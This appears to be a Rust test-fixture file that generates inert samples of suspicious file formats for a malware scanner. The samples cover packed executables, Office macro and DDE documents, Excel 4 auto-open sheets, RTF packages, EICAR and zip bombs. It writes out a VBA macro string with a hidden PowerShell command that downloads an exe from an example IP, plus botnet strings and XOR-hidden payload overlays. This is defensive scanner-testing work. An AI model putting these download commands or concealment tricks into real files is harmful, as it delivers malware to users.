//! Named samples of every format: `tests/goldens` has the report on each, and the example `samples` writes them to disk.
//!
//! None of them does anything: the words and names are all there is, and addresses are those that RFC 5737 keeps for
//! examples.

use crate::archive::seven_zip;
use crate::biff::{Hidden, Workbook, call, document, text};
use crate::crypt::{FilePass, standard, workbook};
use crate::elf::{self, elf, upx_like};
use crate::inno::inno;
use crate::ooxml::{docm, docx, field, pptx, word, xlsx};
use crate::pe::{self, WRITABLE_CODE, pe};
use crate::upx::upx;
use crate::vba::VbaBuilder;
use crate::zip::ZipBuilder;
use crate::{bomb, quine, rtf};

/// What bots name their floods and their victims.
const BOT_WORDS: &[&str] =
    &["UDPFLOOD", "HTTPHEX", "STOMP", "/bin/busybox", "chmod 777 bins.sh", "/proc/net/tcp", "GET /%s HTTP/1.1"];

/// Has the words of a macro that downloads a program, and does nothing with them.
const MACRO: &str = "Private Sub Document_Open()\r\n\
    line = \"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://198.51.100.7/u.exe','u.exe')\"\r\n\
    target = Environ(\"TEMP\") & \"\\update.exe\"\r\n\
    End Sub\r\n";

/// Every sample with its file name.
pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
    [programs(), packages(), documents(), others()].concat()
}

fn programs() -> Vec<(&'static str, Vec<u8>)> {
    let words = BOT_WORDS.join("\0");
    let hidden: Vec<u8> = pe::injector().build().iter().map(|byte| byte ^ 0x5a).collect();
    let loader = pe::metadata().calls("System.IO.Compression", "GZipStream", ".ctor", &[0x20, 0, 1]).calls(
        "System.Reflection",
        "Assembly",
        "Load",
        &[0, 1, 0x12, 5, 0x1d, 5],
    );
    vec![
        ("ordinary.exe", pe::ordinary().build()),
        ("library.dll", pe::ordinary().dll().export("Run").build()),
        ("injector.exe", pe::injector().build()),
        ("packed.exe", pe().section("UPX1", WRITABLE_CODE, pe::noise(20_000)).overlay(pe::noise(5_000)).build()),
        ("self-extractor.exe", pe::ordinary().overlay(seven_zip(&[("setup.exe", &pe::injector().build())])).build()),
        ("installer.exe", inno("6.2.0").file("{app}\\update.exe", pe::injector().build()).installer()),
        ("hides-a-program.exe", pe::ordinary().overlay(hidden).build()),
        ("loads-from-memory.exe", pe::ordinary().dotnet_with(loader).build()),
        ("cut-short.exe", pe::ordinary().build()[..700].to_vec()),
        ("ordinary.elf", elf::tool().build()),
        ("packed.elf", upx_like().upx_magic().build()),
        ("packed-bot.elf", upx_like().upx_magic().overlay(&words).build()),
        ("unpacked.elf", upx(&elf::tool().build()).build()),
        ("unpacked-injector.exe", upx(&pe::injector().build()).mark(*b"ABCD").build()),
        ("bot-big-endian.elf", elf().narrow().big_endian().strings(BOT_WORDS).build()),
    ]
}

fn packages() -> Vec<(&'static str, Vec<u8>)> {
    let letter = word("<w:p><w:r><w:t>Dear all, the figures are attached.</w:t></w:r></w:p>");
    let dde = word(&field(&["DDEAUTO c:\\\\nowhere\\\\cmd.exe \"/k rem\""]));
    let asked = word(&field(&["DDE c:\\\\nowhere\\\\nothing.exe"]));
    let project = VbaBuilder::new().document("ThisDocument", MACRO).bin();
    let remote = docx().external("word/settings.xml", "attachedTemplate", "http://198.51.100.7/t.dotm");
    vec![
        ("letter.docx", docx().part("word/document.xml", letter.as_bytes()).build()),
        ("dde.docx", docx().part("word/document.xml", dde.as_bytes()).build()),
        ("dde-on-request.docx", docx().part("word/document.xml", asked.as_bytes()).build()),
        ("remote-template.docx", remote.part("word/settings.xml", b"<w:settings/>").build()),
        ("macro.docm", docm().vba_project(&project).build()),
        ("table.xlsx", xlsx().build()),
        ("slides.pptx", pptx().build()),
        ("encrypted.docx", standard(&docx().build(), "a password of our own")),
    ]
}

fn documents() -> Vec<(&'static str, Vec<u8>)> {
    let project = VbaBuilder::new().document("ThisDocument", MACRO);
    let sheet = Workbook::new().worksheet("Sheet1", Hidden::No).macro_sheet("Macro1", Hidden::Very);
    let visible = Workbook::new().worksheet("Sheet1", Hidden::No).macro_sheet("Macro1", Hidden::No);
    let visible = visible.formula(0, 0, &call("EXEC", [text("nothing.exe")]));
    let excel4 = sheet.formula(0, 0, &call("EXEC", [text("nothing.exe")])).auto_open();
    let package = rtf::ole1("Package", &rtf::package("invoice.pdf.exe", &pe::ordinary().build()));
    vec![
        ("macro.doc", project.doc()),
        ("stomped.doc", project.compiled(2_000).without_source().doc()),
        ("macro.xls", VbaBuilder::new().document("ThisWorkbook", MACRO).xls()),
        ("excel4-visible.xls", visible.document()),
        ("excel4.xls", excel4.document()),
        ("default-password.xls", document(&workbook(&excel4, "VelvetSweatshop", FilePass::Rc4))),
        ("letter.rtf", rtf::rtf("{\\fonttbl{\\f0 Arial;}}\\f0 Dear all,\\par the figures are attached.\\par")),
        ("packaged-program.rtf", rtf::rtf(&rtf::object("\\objupdate", &package))),
    ]
}

fn others() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("eicar.com", crate::eicar()),
        ("eicar.zip", ZipBuilder::new().entry("eicar.com", &crate::eicar()).build()),
        ("overlapping.zip", bomb::overlapping_entries("zeros", 8, 4)),
        ("contains-itself.zip", quine::quine()),
        ("hello.sh", b"#!/bin/sh\necho hello\n".to_vec()),
        ("nothing.txt", Vec::new()),
    ]
}
